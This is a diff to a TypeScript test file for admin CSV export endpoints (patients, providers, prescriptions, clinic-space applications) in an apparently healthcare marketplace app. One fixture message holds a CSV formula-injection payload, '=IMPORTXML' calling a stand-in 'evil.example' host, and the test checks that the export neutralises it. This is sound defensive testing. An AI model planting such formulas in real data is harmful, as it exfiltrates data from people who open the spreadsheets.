@@ -1,15 +1,23 @@
 import { sql } from 'kysely';
 import { describe, expect, it } from 'vitest';
+import { insertPrescriptionRequest } from '../../db/seed/seed-pharmacy-review.ts';
 import type { RequestContext } from '../../plugins/request-context.ts';
 import { addProperty, adminSession } from '../../test/admin-fixtures.ts';
 import { api, createUser, sessionFor } from '../../test/api.ts';
+import { type SignedProvider, signedProvider } from '../../test/marketplace-fixtures.ts';
 import { useTestApp } from '../../test/test-app.ts';
 import { propertiesCsv } from './admin-export.service.ts';
 
 const t = useTestApp();
 const db = () => t.database.db;
 
-const EXPORTS = ['/api/admin/patients/export', '/api/admin/providers/export', '/api/admin/properties/export'];
+const EXPORTS = [
+  '/api/admin/patients/export',
+  '/api/admin/providers/export',
+  '/api/admin/properties/export',
+  '/api/admin/prescriptions/export',
+  '/api/admin/connections/export',
+];
 
 /** The CSV's lines as cells (these fixtures hold no quoted line breaks). */
 function table(body: string): string[][] {
@@ -55,8 +63,16 @@ describe('admin CSV exports', () => {
 
   it('refuses a filter the table would refuse with 400, and exports nothing', async () => {
     const session = await adminSession(db());
-    for (const url of EXPORTS) {
-      const res = await api(t.app, { method: 'GET', url: `${url}?sort=password_hash`, session });
+    const bad = [
+      '/api/admin/patients/export?sort=password_hash',
+      '/api/admin/providers/export?sort=password_hash',
+      '/api/admin/properties/export?sort=password_hash',
+      '/api/admin/prescriptions/export?tab=everything',
+      '/api/admin/prescriptions/export?from=11/01/2026',
+      `/api/admin/connections/export?organizationId=${'x'.repeat(65)}`,
+    ];
+    for (const url of bad) {
+      const res = await api(t.app, { method: 'GET', url, session });
       expect(res.statusCode, url).toBe(400);
       expect(res.json().error.code).toBeTruthy();
       expect(res.body).not.toMatch(/select|at .*\.ts/i);
@@ -218,6 +234,126 @@ describe('admin CSV exports', () => {
     expect(
       (await exportAudits('properties')).map((a) => (a.details as { rowCount: number }).rowCount),
     ).toEqual([2, 0]);
+  });
+
+  it('exports one tab of prescription requests with its filters, the provider who decided, and audits the tab', async () => {
+    const session = await adminSession(db());
+    const patient = await createUser(db(), { isPatient: true, email: 'rx.export.one@example.test' });
+    const other = await createUser(db(), { isPatient: true, email: 'rx.export.two@example.test' });
+    const reviewer = await createUser(db(), { providerRole: 'HPRO' });
+    const seed = (owner: string, approved: boolean) =>
+      insertPrescriptionRequest(db(), {
+        ownerUserId: owner,
+        category: 'EDYS',
+        medicationId: 'rxm_tadalafil_5mg_30',
+        usState: 'NJ',
+        zipcode: '07030',
+        paidDaysAgo: 3,
+        ...(approved ? { decision: { kind: 'approved', daysAgo: 1, reviewerUserId: reviewer.id } } : {}),
+      });
+    const approvedId = await seed(patient.id, true);
+    await seed(patient.id, false);
+    await seed(other.id, true);
+
+    const res = await api(t.app, {
+      method: 'GET',
+      url: '/api/admin/prescriptions/export?tab=approved&email=rx.export.one',
+      session,
+    });
+    expect(res.statusCode, res.body).toBe(200);
+    const [header, ...rows] = table(res.body);
+    expect(header).toEqual([
+      'Request ID',
+      'Name',
+      'Email',
+      'Treatment',
+      'State',
+      'Started',
+      'Paid',
+      'Approved',
+      'Rejected',
+      'Provider',
+    ]);
+    expect(rows).toHaveLength(1);
+    expect(rows[0]![0]).toBe(approvedId);
+    expect(rows[0]![2]).toBe('rx.export.one@example.test');
+    expect(rows[0]![7]).toMatch(/^\d{4}-\d\d-\d\dT/);
+    expect(rows[0]![8]).toBe('');
+    expect(rows[0]![9]).toMatch(/^Test User\d+$/);
+    expect((await exportAudits('prescriptions')).map((a) => a.details)).toEqual([
+      {
+        table: 'prescriptions',
+        filters: { tab: 'approved', email: 'rx.export.one', sort: 'date' },
+        rowCount: 1,
+        complete: true,
+      },
+    ]);
+  });
+
+  it("exports one view of the space applications, every organization's or one's, neutralising the message", async () => {
+    const session = await adminSession(db());
+    const host = await signedProvider(t.app, 'Export Host Clinic');
+    const otherHost = await signedProvider(t.app, 'Other Host Clinic');
+    const room = await addProperty(db(), host.organizationId, 'Export consult room');
+    const otherRoom = await addProperty(db(), otherHost.organizationId, 'Other consult room');
+    const apply = async (who: SignedProvider, propertyId: string, messageToHost: string) => {
+      const res = await api(t.app, {
+        method: 'POST',
+        url: '/api/propertyIntroduction',
+        session: who.session,
+        payload: { propertyId, organizationId: who.organizationId, messageToHost, howSoon: 'MNTH' },
+      });
+      expect(res.statusCode, res.body).toBe(200);
+    };
+    const seeker = await signedProvider(t.app, 'Seeking Family Practice');
+    await apply(seeker, room, '=IMPORTXML("http://evil.example","//a") two mornings a week, please.');
+    await apply(seeker, otherRoom, 'Looking for Friday afternoons.');
+
+    const res = await api(t.app, {
+      method: 'GET',
+      url: `/api/admin/connections/export?viewCondition=pending&organizationId=${host.organizationId}`,
+      session,
+    });
+    expect(res.statusCode, res.body).toBe(200);
+    const [header, ...rows] = table(res.body);
+    expect(header).toEqual([
+      'Application ID',
+      'Listing',
+      'Host practice',
+      'Listing address',
+      'Applicant',
+      'Applicant practice',
+      'Email',
+      'Phone',
+      'Licensed in',
+      'How soon',
+      'Message',
+      'Sent',
+      'Approved',
+      'Rejected',
+      'Reason',
+    ]);
+    expect(rows.map((r) => [r[1], r[2], r[5], r[6]])).toEqual([
+      ['Export consult room', 'Export Host Clinic', 'Seeking Family Practice', seeker.email],
+    ]);
+    expect(rows[0]![10]!.startsWith(`'=IMPORTXML(`)).toBe(true);
+
+    const all = await api(t.app, { method: 'GET', url: '/api/admin/connections/export', session });
+    expect(
+      table(all.body)
+        .slice(1)
+        .map((r) => r[1])
+        .sort(),
+    ).toEqual(['Export consult room', 'Other consult room']);
+    const none = await api(t.app, {
+      method: 'GET',
+      url: '/api/admin/connections/export?viewCondition=approved',
+      session,
+    });
+    expect(table(none.body)).toHaveLength(1);
+    expect(
+      (await exportAudits('connections')).map((a) => (a.details as { rowCount: number }).rowCount),
+    ).toEqual([1, 2, 0]);
   });
 
   it('streams: rows are read as the file is taken, and a reader who leaves stops the read, audited as cut short', async () => {
